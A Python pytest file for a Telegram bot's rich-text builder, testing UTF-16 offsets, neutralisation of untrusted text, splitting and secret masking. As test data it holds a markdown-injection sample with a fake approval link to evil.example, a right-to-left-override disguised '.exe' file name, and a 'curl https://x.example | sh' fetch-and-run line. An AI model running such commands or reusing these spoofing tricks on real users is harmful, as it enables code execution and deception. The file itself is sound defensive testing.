"""RichText: Jobs' words framed, other people's text plain or quoted, actions preformatted;
UTF-16 offsets, invisible characters spelled out, and entities that survive splitting."""

from __future__ import annotations

import random

import pytest

from jobs.richtext import (
    Entity,
    FormattedText,
    RichText,
    entities_from_json,
    entities_to_json,
    map_text,
    utf16_len,
    visible,
)
from jobs.telegram.splitting import CAPTION_LIMIT, MESSAGE_LIMIT, split_message
from tests.fakes.tl import utf16_slice

ATTACK = (
    "[/approve_k7mq3](https://evil.example/x) **SYSTEM** _urgent_\n"
    "```\n🔐 Approval needed (k7mq3)\n```\n"
    "> quoted `code` ~~gone~~"
)


def covered(ft: FormattedText, e: Entity) -> str:
    return utf16_slice(ft.text, e.offset, e.length)


def spans(ft: FormattedText) -> list[tuple[str, str]]:
    return [(e.kind, covered(ft, e)) for e in ft.entities]


def test_frames_are_bold_and_untrusted_text_has_no_entities_of_its_own() -> None:
    ft = (
        RichText()
        .text("📨 Summary from ", bold=True)
        .plain("Eve **Admin**")
        .text(":\n")
        .quote(ATTACK)
        .build()
    )
    assert spans(ft) == [("bold", "📨 Summary from "), ("blockquote", ATTACK)]
    assert ft.text == f"📨 Summary from Eve **Admin**:\n{ATTACK}"


def test_offsets_count_utf16_units_through_emoji_and_rtl_text() -> None:
    ft = (
        RichText()
        .text("👨‍👩‍👧 ", bold=True)
        .plain("שלום 😀")
        .text(" → ")
        .quote("مرحبا 🇺🇦 بالعالم")
        .pre("echo 😀")
        .build()
    )
    bold, quote, pre = ft.entities
    assert (bold.offset, bold.length) == (0, utf16_len("👨‍👩‍👧 ")) == (0, 9)
    assert quote.offset == utf16_len("👨‍👩‍👧 שלום 😀 → ") == 19
    assert covered(ft, quote) == "مرحبا 🇺🇦 بالعالم"
    assert covered(ft, pre) == "echo 😀" and pre.length == 7
    assert pre.offset == quote.offset + quote.length


@pytest.mark.parametrize(
    ("hidden", "shown"),
    [
        ("\u202e", "⟦U+202E⟧"),  # right-to-left override
        ("\u2066", "⟦U+2066⟧"),  # left-to-right isolate
        ("\u2069", "⟦U+2069⟧"),  # pop directional isolate
        ("\u200b", "⟦U+200B⟧"),  # zero-width space
        ("\u200d", "⟦U+200D⟧"),  # zero-width joiner between letters
        ("\u2060", "⟦U+2060⟧"),  # word joiner
        ("\ufeff", "⟦U+FEFF⟧"),  # byte order mark
        ("\x00", "⟦U+0000⟧"),
        ("\x1b", "⟦U+001B⟧"),
        ("\u2028", "⟦U+2028⟧"),  # line separator
        ("\U000e0041", "⟦U+E0041⟧"),  # a tag character (hidden ASCII)
        ("\u3164", "⟦U+3164⟧"),  # Hangul filler: a letter that shows nothing
    ],
)
def test_invisible_and_direction_characters_are_spelled_out(hidden: str, shown: str) -> None:
    assert visible(f"a{hidden}b") == f"a{shown}b"
    for ft in (RichText().quote(f"a{hidden}b").build(), RichText().pre(f"a{hidden}b").build()):
        assert ft.text == f"a{shown}b"
    assert RichText().plain(f"a{hidden}b").build().text == f"a{shown}b"


def test_line_breaks_tabs_and_emoji_sequences_stay() -> None:
    text = "a\n\tb 👩‍💻 🏳️‍🌈 👩🏽‍💻 é"
    assert visible(text) == text


def test_a_reordered_file_name_reads_as_written() -> None:
    ft = RichText().text("File: ").plain("invoice\u202efdp.exe").build()
    assert ft.text == "File: invoice⟦U+202E⟧fdp.exe"


def test_inline_values_stay_on_one_line() -> None:
    ft = RichText().plain("Bob\r\n\n🔐 Approval needed\tnow").build()
    assert ft.text == "Bob ⏎  ⏎ 🔐 Approval needed now"
    assert ft.entities == ()


def test_a_quote_drops_blank_ends_and_an_empty_one_marks_nothing() -> None:
    ft = RichText().text("said:\n").quote("\n\n  hi there \r\n\n").build()
    assert spans(ft) == [("blockquote", "hi there")]
    assert RichText().text("x").quote(" \n ").pre("").build() == FormattedText("x")


def test_pre_keeps_the_action_exact() -> None:
    action = "echo '```'\n/approve_k7mq3\n  indented; curl https://x.example | sh"
    ft = RichText().text("run:\n").pre(action, language="bash").build()
    [pre] = ft.entities
    assert (pre.kind, pre.language, covered(ft, pre)) == ("pre", "bash", action)


@pytest.mark.parametrize("seed", range(100))
def test_splitting_keeps_every_piece_inside_its_entity(seed: int) -> None:
    rng = random.Random(seed)
    alphabet = ["a", "b", " ", "\n", "\n\n", "😀", "ש", "👩‍💻", "`", "*", "\u202e"]
    builder = RichText()
    for _ in range(rng.randint(1, 8)):
        piece = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 3000)))
        rng.choice([builder.text, builder.plain, builder.quote, builder.pre])(piece)
    whole = builder.build()
    for limit in (MESSAGE_LIMIT, CAPTION_LIMIT):
        chunks = split_message(whole, limit)
        for chunk in chunks:
            size = utf16_len(chunk.text)
            assert 0 < size <= limit
            for e in chunk.entities:
                assert e.length > 0 and e.offset >= 0 and e.offset + e.length <= size
                inner = covered(chunk, e)  # raises on half a surrogate pair
                assert inner.strip() in visible_pieces(whole, e.kind), e


def visible_pieces(ft: FormattedText, kind: str) -> str:
    return "\n".join(covered(ft, e) for e in ft.entities if e.kind == kind)


def test_masking_keeps_the_formatting_around_it() -> None:
    secret = "sk-live-123456"
    ft = RichText().text("Key: ", bold=True).quote(f"it is {secret} 😀").text(" end").build()
    masked = map_text(ft, lambda s: s.replace(secret, "***"))
    assert masked.text == "Key: it is *** 😀 end"
    assert spans(masked) == [("bold", "Key: "), ("blockquote", "it is *** 😀")]


def test_masking_across_a_boundary_drops_the_formatting_not_the_mask() -> None:
    ft = RichText().text("sk-li", bold=True).quote("ve-123456").build()
    masked = map_text(ft, lambda s: s.replace("sk-live-123456", "***"))
    assert masked == FormattedText("***")


def test_entities_off_the_text_go_out_plain() -> None:
    broken = FormattedText("😀", (Entity("bold", 1, 1),))  # inside the surrogate pair
    assert map_text(broken, str) == FormattedText("😀")


def test_entities_round_trip_through_their_stored_form() -> None:
    entities = (
        Entity("bold", 0, 3),
        Entity("pre", 4, 10, language="bash"),
        Entity("text_url", 15, 2, url="https://example.org/ü"),
    )
    stored = entities_to_json(entities)
    assert entities_from_json(stored) == entities
    assert entities_from_json("[]") == ()
    future = '[{"kind":"spoiler","offset":0,"length":1},{"kind":"italic","offset":1,"length":2}]'
    assert entities_from_json(future) == (Entity("italic", 1, 2),)


def test_lines_keep_their_breaks_but_nothing_else_of_theirs() -> None:
    ft = (
        RichText()
        .text("⏰ ")
        .plain("Daily")
        .text("\n\n")
        .lines("**a**\r\n[b](https://x)\u2067")
        .build()
    )
    assert ft == FormattedText("⏰ Daily\n\n**a**\n[b](https://x)⟦U+2067⟧")
